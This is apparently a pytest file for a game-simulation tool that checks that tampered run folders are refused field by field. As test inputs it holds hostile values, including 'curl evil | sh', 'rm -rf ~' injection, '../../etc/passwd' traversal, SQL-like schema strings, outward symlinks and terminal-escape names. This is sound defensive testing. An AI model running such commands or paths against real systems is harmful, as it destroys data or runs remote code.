"""A run folder from a stranger: refused in one line that names file and field, and nothing outside of it is touched."""

import json
import os
from functools import reduce
from unittest.mock import ANY

import pytest

from balance.store import check_files, lock
from balance.store.files import write_atomically
from balance.store.run import Run
from balance.store.sealed import sealed
from sims import visible
from sims.errors import InputError


@pytest.fixture
def run(make_run, told):
    """Two variants, a deal each."""
    round_, variant = told
    deal = [[round_([3, 1])]]
    return make_run([variant([deal]), variant([deal], label="coin_supply=8")])


def edited(path, place, value):
    """The JSON file with another value at a place, sealed anew: names and numbers between dots; … removes it."""
    data = json.loads(path.read_text())
    del data["sha256"]
    *way, last = (int(part) if part.isdigit() else part for part in place.split("."))
    below = reduce(lambda found, part: found[part], way, data)
    if value is ...:
        del below[last]
    else:
        below[last] = value
    path.write_bytes(sealed(data))


def refusal(run):
    """The line in which the run is refused, without its folder."""
    with pytest.raises(InputError) as caught:
        Run.open(run.path).commits()
    line = str(caught.value)
    assert visible.name(line) == line and len(line) < 1000
    return line.removeprefix(f"{run.path}/")


def test_a_run_is_read_as_it_was_written(run):
    opened = Run.open(run.path)
    assert {**opened.spec, "sha256": ANY} == json.loads((run.path / "run.json").read_text())
    assert [commit["chunk"] for commit in opened.commits()] == [0, 1]


@pytest.mark.parametrize(
    ("place", "value", "line"),
    [
        ("seed", -1, "run.json: seed: -1 is not a whole number of at least 0"),
        ("seed", 2**64, f"run.json: seed: {2**64} is not a whole number of 64 bits"),
        ("seed", True, "run.json: seed: True is not a whole number"),
        ("variants", [], "run.json: variants: [] is not a list of one at least"),
        ("variants", {"0": 1}, "run.json: variants: {'0': 1} is not a list"),
        ("variants.1.matches", ..., "run.json: variants[1]: 'matches' is not there: the field is missing"),
        ("variants.1.clusters", -5, "run.json: variants[1].clusters: -5 is not a whole number of at least 0"),
        ("variants.1.seats", 10**9, "run.json: variants[1].seats: 1000000000 is not a number of seats"),
        ("variants.1.variant", 0, "run.json: variants[1].variant: 0 is not its place in the list, 1"),
        ("variants.1.lineup", ["greedy", "mallory"], "run.json: variants[1].lineup: ['greedy', 'mallory'] is not 2"),
        ("variants.1.repeats", 3, "run.json: variants[1].matches: 1 is not clusters × mirrors × repeats, 3"),
        ("variants.0.parameters", {"coin_supply": [1]}, "run.json: variants[0].parameters.coin_supply: [1] is not"),
        ("variants.0.parameters", {"x; drop": 1}, "run.json: variants[0].parameters: 'x; drop' is not a name of small"),
        ("chunk_clusters", 0, "run.json: chunk_clusters: 0 is not a whole number of at least 1"),
        ("chunks", 3, "run.json: chunks: 3 is not the number of the plan, 2"),
        ("log.share", 2, "run.json: log.share: 2 is not a number from 0 to 1"),
        ("log.level", "all", "run.json: log.level: 'all' is not one of rounds, turns, moves"),
        ("digest", "../x", "run.json: digest: '../x' is not a SHA-256"),
        ("command", "balance sweep x; rm -rf ~", "run.json: command: 'balance sweep x; rm -rf ~' is not a command of"),
        ("command", "curl evil | sh", "run.json: command: 'curl evil | sh' is not a command of balance and nothing"),
        ("asked", {"baseline": "../../secret"}, "run.json: asked.baseline: '../../secret' is not the name of a saved"),
        ("asked", {"margins": {"turns_mean": "1"}}, "run.json: asked.margins.turns_mean: '1' is not a number"),
        ("asked", {"tweaks": 7}, "run.json: asked.tweaks: 7 is not a list"),
        ("declared.track.0.name", 'x" int); attach \'e', "run.json: declared.track[0].name: "),
        ("declared.schema.moves.0", ['match"', "i8"], "run.json: declared.schema.moves[0][0]: 'match\"' is not a name"),
        ("declared.schema.moves.0", ["match", "i8); --"], "run.json: declared.schema.moves[0][1]: 'i8); --'"),
        ("declared.schema.moves.0", ["mtch", "i8"], "run.json: declared.schema.moves: "),
        ("declared.standing", "wealth", "run.json: declared.standing: 'wealth' is not a tracked quantity"),
        ("declared.metrics.0.top", "wealth", "run.json: declared.metrics[0]: 'wealth' is not a tracked quantity"),
        ("declared", None, "run.json: declared: None is not an object"),
        ("schema", "card-balance/run/9", "run.json: schema: 'card-balance/run/9' is not 'card-balance/run/3'; play it"),
    ],
)  # fmt: skip
def test_what_run_json_cannot_say_is_refused_by_field(run, place, value, line):
    edited(run.path / "run.json", place, value)
    assert refusal(run).startswith(line)


@pytest.mark.parametrize(
    ("place", "value", "line"),
    [
        ("files.0.name", "../../etc/passwd", "files[0].name: '../../etc/passwd' is not 'tables/matches/00001.parquet'"),
        ("files.0.name", "/etc/passwd", "files[0].name: '/etc/passwd' is not 'tables/matches/00001.parquet'"),
        ("files.0.name", "s3://evil/x", "files[0].name: 's3://evil/x' is not"),
        ("files.0.name", "tables/matches/00001.parquet\0", "files[0].name: 'tables/matches/00001.parquet"),
        ("files.0.name", "tables/matches/00001.parquet\n", "files[0].name: 'tables/matches/00001.parquet"),
        ("files.0.name", "tables/matches/00000.parquet", "files[0].name: 'tables/matches/00000.parquet' is not"),
        ("files.0.name", None, "files[0].name: None is not a text"),
        ("files.0.table", "../x", "files[0].table: '../x' is not one of matches, rounds, turns, moves"),
        ("files.0.table", "players", "files[0].table: 'players' is not one of matches, rounds, turns, moves"),
        ("files.0.rows", -3, "files[0].rows: -3 is not a whole number of at least 0"),
        ("files.0.sha256", "", "files[0].sha256: '' is not a SHA-256 of 64 digits"),
        ("files.1", ..., None),
        ("files", "none", "files: 'none' is not a list"),
        ("chunk", 7, "the record of chunk 7"),
        ("chunk", "1", "the record of chunk 1"),
        ("variant", -1, "variant: -1 is not a whole number of at least 0"),
        ("clusters", 0, "clusters: 0 is not a whole number of at least 1"),
        ("matches", 1.5, "matches: 1.5 is not a whole number"),
        ("seconds", "long", "seconds: 'long' is not a number"),
        ("first_cluster", ..., "'first_cluster' is not there: the field is missing"),
    ],
)  # fmt: skip
def test_what_a_commit_record_cannot_say_is_refused_by_field(run, place, value, line):
    edited(run.path / "commits" / "00001.json", place, value)
    if line is None:  # `balance check` tells of it
        assert len(Run.open(run.path).commits()[1]["files"]) == 3
    else:
        said = refusal(run)
        assert said.startswith("commits/00001.json: ") and line in said.replace("\\\\", "\\").replace(
            "\\'", "'"
        )


def test_a_record_of_a_variant_that_the_run_does_not_have_is_refused(run):
    edited(run.path / "commits" / "00001.json", "variant", 2)
    assert refusal(run) == "commits/00001.json: variant: 2 is not one of the run's: 0 to 1"


@pytest.mark.parametrize("name", ["run.json", "commits/00001.json"])
@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "empty"),
        (b"[1, 2]", "torn"),
        (b'{"seed": 1', "torn"),
        (b"\xff\xfe{}", "torn"),
        (b"[" * 100_000, "torn"),
        (b'{"a":' * 100_000, "torn"),
        (b'{"seed": NaN}', "NaN is no number"),
        (b'{"seed": -Infinity}', "-Infinity is no number"),
        (b'{"seed": ' + b"9" * 5000 + b"}", "4300 digits"),
        (b'{"seed": 1, "seed": 2}', "'seed' stands twice"),
    ],
)
def test_what_is_no_plain_json_is_refused(run, name, data, said):
    (run.path / name).write_bytes(data)
    line = refusal(run)
    assert line.startswith(f"{name}: ") and said in line.replace("\\'", "'")


def test_a_number_that_overflows_is_no_number(run):
    text = (run.path / "run.json").read_text().replace('"share": 1.0', '"share": 1e400')
    (run.path / "run.json").write_text(text)
    assert refusal(run).startswith("run.json: '1e400 is no number' is not as it was written")


def test_a_huge_file_is_not_read(run):
    with (run.path / "commits" / "00001.json").open("r+b") as file:
        file.truncate(100 * 2**20)  # a sparse one
    assert refusal(run).startswith(
        "commits/00001.json: '104,857,600 bytes long: more than 67,108,864' is not a whole"
    )


@pytest.mark.parametrize("name", ["commits", "tables", "tables/moves", "tables/moves/00000.parquet", "lock", "fresh",
                                  "noise", "variants.parquet", "run.json", "tables/moves/00009.parquet.tmp",
                                  "run.json.1.tmp", "commits/00001.json"])  # fmt: skip
def test_a_link_that_leads_out_is_refused_and_what_it_leads_to_stays(run, tmp_path, name):
    outside = tmp_path / "outside"
    here = run.path / name
    if here.is_dir() or here.is_file():
        here.rename(outside)
    else:
        outside.write_text("mine")
    here.symlink_to(outside)
    before = outside.stat()
    assert refusal(run).startswith(f"{name}: 'a link' is not legal")
    assert outside.stat().st_mtime_ns == before.st_mtime_ns


def test_the_record_of_other_tables_names_no_other_file(run):
    record = run.path / "side_tables.json"
    assert list(check_files.side_files(run)) == []
    edited(record, "files.0.name", "../../etc/passwd")
    [line] = check_files.side_files(run)
    assert line.startswith(
        "side_tables.json is not what it can be: files[0].name: '../../etc/passwd' is not "
    )
    edited(record, "files", 7)
    assert list(check_files.side_files(run)) == [
        "side_tables.json is not what it can be: files: 7 is not a list"
    ]


def test_a_folder_beside_ours_that_leads_to_another_run_is_refused_and_a_note_is_not(run, tmp_path):
    (tmp_path / "mine").mkdir()
    (run.path / "notes").symlink_to(tmp_path / "mine" / "notes.txt")
    assert Run.open(run.path)
    (run.path / "older").symlink_to(tmp_path / "mine")
    assert refusal(run).startswith("older: 'a link' is not legal")


def test_a_pipe_in_place_of_a_file_is_not_waited_for(run):
    os.mkfifo(run.path / "commits" / "00002.json")
    assert refusal(run).startswith("commits/00002.json: 'no plain file' is not")


def test_nothing_is_written_through_a_link(tmp_path, monkeypatch):
    mine = tmp_path / "mine"
    mine.write_text("precious")
    monkeypatch.setattr("balance.store.files.secrets.token_hex", lambda _: "1234abcd")
    (tmp_path / "report.html.1234abcd.tmp").symlink_to(mine)
    write_atomically(tmp_path / "report.html", b"a report")
    (tmp_path / "lock").symlink_to(mine)
    with pytest.raises(OSError, match="lock"), lock.hold(tmp_path):
        pass
    assert mine.read_text() == "precious"
    assert (tmp_path / "report.html").read_text() == "a report"


def test_names_that_play_tricks_are_made_visible_where_they_are_read(run):
    data = json.loads((run.path / "run.json").read_text())
    data["variants"][1]["label"] = "\x1b[2J\u202eevil\n<b>\ud800"
    data["declared"]["title"] = "two\nlines\x07"
    del data["sha256"]
    (run.path / "run.json").write_text(json.dumps(data))
    spec = Run.open(run.path).spec
    assert spec["variants"][1]["label"] == r"\x1b[2J\u202eevil\n<b>\ud800"
    assert spec["declared"]["title"] == "two\nlines\\x07"
